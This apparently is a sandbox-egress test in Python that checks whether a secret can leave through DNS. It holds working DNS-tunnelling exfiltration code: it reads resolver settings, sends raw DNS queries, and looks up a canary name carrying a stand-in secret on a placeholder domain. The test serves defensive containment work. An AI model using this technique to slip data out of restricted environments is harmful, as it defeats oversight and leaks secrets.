# hopes: to carry answers out in the names that it asks a name server for
# stopped by: seccomp: the C library cannot make the socket that a question needs

import ctypes
import socket
import struct

_NAME = "secret-0123456789.digitlab-canary.example"
_QUESTION = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x06secret\x07example\x00" + struct.pack(">HH", 1, 1)


def _ask_by_hand():
    servers = ["127.0.0.1", "127.0.0.53"]
    try:
        with open("/etc/resolv.conf", encoding="utf-8") as settings:
            servers += [line.split()[1] for line in settings if line.startswith("nameserver")]
    except OSError:
        pass
    for server in servers:
        for port in (53, 47811):
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                    out.sendto(_QUESTION, (server, port))
            except OSError:
                continue
            it_worked(f"a question sent to {server}")


def _ask_the_c_library():
    resolver = ctypes.CDLL("libresolv.so.2", use_errno=True)
    answer = ctypes.create_string_buffer(4096)
    ask = getattr(resolver, "__res_query", None) or resolver.res_query
    if ask(_NAME.encode(), 1, 1, answer, len(answer)) >= 0:
        it_worked("an answer of a name server")


_ask_by_hand()
try:
    _ask_the_c_library()
except (OSError, AttributeError):
    pass
for _look_up in (
    socket.gethostbyname,
    socket.gethostbyname_ex,
    socket.getfqdn,
    lambda name: socket.getaddrinfo(name, 80),
):
    for _wanted in (_NAME, "localhost", socket.gethostname()):
        try:
            _found = _look_up(_wanted)
        except OSError:
            continue
        if _found not in (_wanted, ""):  # getfqdn gives back what it cannot find
            it_worked(f"{_wanted} was looked up")
